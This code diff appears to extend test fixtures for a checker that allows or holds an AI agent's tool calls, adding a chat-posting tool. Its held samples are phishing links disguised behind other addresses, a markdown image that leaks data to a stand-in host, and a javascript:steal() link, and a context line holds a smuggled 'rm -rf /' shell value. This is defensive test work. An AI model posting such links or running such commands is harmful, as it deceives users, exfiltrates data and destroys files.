@@ -10,6 +10,12 @@ export const TOOLS_OF_ACTS = [
   { tool: 'files.share', effect: 'share', targets: [{ path: 'to[*].who', kind: 'detect', role: 'grantee' }] },
   { tool: 'files.write', effect: 'write', targets: [{ path: 'to', kind: 'path', role: 'place' }] },
   { tool: 'shell.run', effect: 'execute', contents: [{ path: 'to', kind: 'shell' }] },
+  {
+    tool: 'chat.post',
+    effect: 'send',
+    targets: [{ path: 'team', kind: 'channel', role: 'recipient' }],
+    contents: [{ path: 'to', kind: 'text' }],
+  },
   { tool: 'db.query', effect: 'execute', contents: [{ path: 'to', kind: 'sql' }] },
 ];
 
@@ -17,6 +23,7 @@ export const RECORDS_OF_ACTS = [
   { kind: 'domain', value: 'example.com' },
   { kind: 'account', value: 'DE89 3704 0044 0532 0130 00', role: 'payee' },
   { kind: 'path', value: '/srv/reports' },
+  { kind: 'channel', value: '#team' },
 ];
 
 /** By tool, what passes: otherwise the tables below would show nothing. */
@@ -27,6 +34,7 @@ export const READABLE: Readonly<Record<string, readonly unknown[]>> = {
   'files.share': [[{ who: 'ann@example.com' }], [{ who: 'https://example.com/' }]],
   'files.write': ['/srv/reports/march.csv', 'notes.txt'],
   'shell.run': ["grep -c 'total' march.csv", 'cat <<EOF\nhello\nEOF'],
+  'chat.post': ['See https://example.com/report for it.', 'No link at all.'],
   'db.query': ['SELECT 1', "SELECT name FROM customers WHERE city = 'Bonn'"],
 };
 
@@ -136,6 +144,16 @@ export const HELD: Readonly<Record<string, Readonly<Record<string, unknown>>>> =
     'has a null character': 'ls\u0000; rm -rf /',
     'is a list of numbers': [1, 2],
     'is an object': { command: 'ls' },
+  },
+  'chat.post': {
+    'has a host behind a user name': 'Log in: https://example.com@evil.test/login',
+    'has a host behind a user name and a password': 'Log in: https://example.com:443@evil.test/login',
+    'has a host behind a full stop of another script': 'Log in: https://example.com\u3002evil.test/login',
+    'shows another address': 'Log in: [https://example.com](https://evil.test/login)',
+    'shows another address as HTML': '<a href="https://evil.test/login">https://example.com</a>',
+    'loads a picture': '![report](https://evil.test/p.png?d=report)',
+    'has an address without a scheme': 'Log in: www.evil.test/login',
+    'runs a script': '[Log in](javascript:steal())',
   },
   'db.query': {
     'is of no dialect': 'DROP TABEL customers',
